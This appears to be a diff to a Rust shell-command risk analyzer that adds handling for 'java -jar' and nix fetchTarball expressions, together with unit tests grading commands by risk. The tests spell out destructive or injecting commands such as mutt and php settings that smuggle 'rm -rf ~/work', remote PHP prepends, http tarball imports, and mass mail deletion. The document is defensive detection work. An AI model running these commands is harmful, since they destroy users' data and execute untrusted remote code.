@@ -6,9 +6,50 @@ use super::{EffectKind, TargetClass};
 use crate::line::Span;
 
 impl Machine<'_> {
+    /// `java -jar tool-1.2.jar WORDS` is `tool WORDS`.
+    fn jar(&mut self, argv: &[Field], flow: Flow<'_>) {
+        let Some(at) = argv.iter().position(|field| field.text == "-jar") else { return };
+        let Some(jar) = argv.get(at + 1) else { return };
+        let base = jar.text.rsplit('/').next().unwrap_or_default();
+        let base = base.strip_suffix(".jar").unwrap_or(base);
+        let is_version = |end: &str| end.starts_with(|letter: char| letter.is_ascii_digit());
+        let name = base.rsplit_once('-').filter(|(_, end)| is_version(end)).map_or(base, |(name, _)| name);
+        let name = name.to_owned();
+        let words: Vec<Field> = std::iter::once(Field { text: name.clone(), span: jar.span })
+            .chain(argv.iter().skip(at + 2).cloned())
+            .collect();
+        match crate::specs::lookup(&name) {
+            Some(spec) if !spec.verbs.is_empty() => {
+                self.by_spec(spec, &words, jar.span, flow);
+            }
+            _ => self.by_its_verb(&name, &words),
+        }
+    }
+
+    /// `import (fetchTarball "http://…")`: code and packages that anybody on the way can replace.
+    fn nix_expression(&mut self, argv: &[Field]) {
+        for at in 1..argv.len().min(33) {
+            let told =
+                matches!(argv[at - 1].text.as_str(), "-E" | "-e" | "--expr" | "-p" | "--packages" | "-I");
+            let text = argv[at].text.as_str();
+            let fetches = text.contains("fetch") || argv[at - 1].text == "-I";
+            let Some(from) = text.find("http://").filter(|_| told && fetches) else { continue };
+            let url = text[from..].split(['"', '\'', ' ', ';', '}', ')']).next().unwrap_or_default();
+            let (url, span) = (self.unknowns.show(url), self.at(argv[at].span));
+            let target = self.target(TargetClass::Named, &url, span);
+            self.emit_with(EffectKind::Install, target, false, "nix", span, "unchecked");
+        }
+    }
+
     /// Small languages in the words of programs of one kind: macros of rpm, `\write18` of TeX, bindings of fzf, `un.rb` of Ruby.
     pub(super) fn small_languages(&mut self, name: &str, argv: &[Field], flow: Flow<'_>) {
         let span = self.at(argv.first().map_or(Span::new(0, 0), |field| field.span));
+        if name == "java" {
+            return self.jar(argv, flow);
+        }
+        if matches!(name, "nix" | "nix-build" | "nix-env" | "nix-instantiate" | "nix-shell") {
+            return self.nix_expression(argv);
+        }
         if matches!(name, "artisan" | "dockerd" | "pip" | "uv") {
             for field in argv.iter().skip(1).take(32) {
                 if let Some(code) = field.text.strip_prefix("--execute=") {
@@ -158,10 +199,58 @@ fn enclosed(text: &str, mark: &str, open: char, close: char) -> Vec<String> {
 #[cfg(test)]
 mod tests {
     use super::enclosed;
+    use crate::safety::Risk::{High, Moderate, Safe};
+    use crate::safety::tests::{check_all, context};
 
     #[test]
     fn brackets_are_found_by_what_stands_before_them() {
         assert_eq!(enclosed("a%(b (c))d", "%(", '(', ')'), ["b (c)"]);
         assert_eq!(enclosed("\\write18{x}", "\\write18{", '{', '}'), ["x"]);
+    }
+
+    #[test]
+    fn words_that_a_program_takes_for_code_or_orders() {
+        check_all(
+            &context(),
+            &[
+                (High, "java -jar lib/dropctl-1.2.jar delete cluster shop --yes"),
+                (Moderate, "java -jar jenkins-cli.jar -s https://ci.example.com delete-job nightly"),
+                (High, "nix run --impure --expr 'import (fetchTarball \"http://example.com/x.tar.gz\")'"),
+                (High, "mutt -e 'set editor=\"rm -rf ~/work;\"' -s hi anna@example.org"),
+                (High, "ansible localhost -m file -a 'path=~/work state=absent'"),
+                (High, "HISTFILE=~/.bashrc; history -w"),
+                (High, "php -d auto_prepend_file=data:text/plain,'<?php exec(\"rm -rf ~/work\");' -r ''"),
+                (High, "php -d auto_prepend_file=http://example.com/x.txt -r ''"),
+                (Safe, "java -jar jenkins-cli.jar -s https://ci.example.com list-jobs"),
+                (Safe, "java -jar app.jar delete"),
+                (Safe, "nix run --expr 'import (fetchTarball \"https://example.com/x.tar.gz\")'"),
+                (Safe, "mutt -e 'set editor=vim' -s hi anna@example.org"),
+                (Safe, "mutt -e 'set from=\"rm -rf ~/work;\"' -s hi anna@example.org"),
+                (Moderate, "ansible localhost -m file -a 'path=~/work state=directory'"),
+                (Safe, "HISTFILE=~/.history_work; history -w"),
+                (Safe, "php -d memory_limit=-1 -d auto_prepend_file= vendor/bin/phpstan"),
+            ],
+        );
+    }
+
+    #[test]
+    fn mail_and_firewalls() {
+        check_all(
+            &context(),
+            &[
+                (High, "postsuper -d ALL deferred"),
+                (High, "doveadm expunge -A mailbox INBOX savedbefore 1d"),
+                (High, "doveadm mailbox delete -u anna Archive"),
+                (High, "exim -bpru | awk '{print $3}' | xargs exim -Mrm"),
+                (High, "firewall-cmd --permanent --zone=public --set-target=ACCEPT"),
+                (High, "xbps-remove -F openssl"),
+                (Moderate, "postsuper -d 3F2A1"),
+                (Moderate, "doveadm expunge -u anna mailbox Trash savedbefore 30d"),
+                (Safe, "postqueue -p"),
+                (Safe, "doveadm mailbox list -u anna"),
+                (Safe, "exim -bp"),
+                (Safe, "firewall-cmd --list-all"),
+            ],
+        );
     }
 }
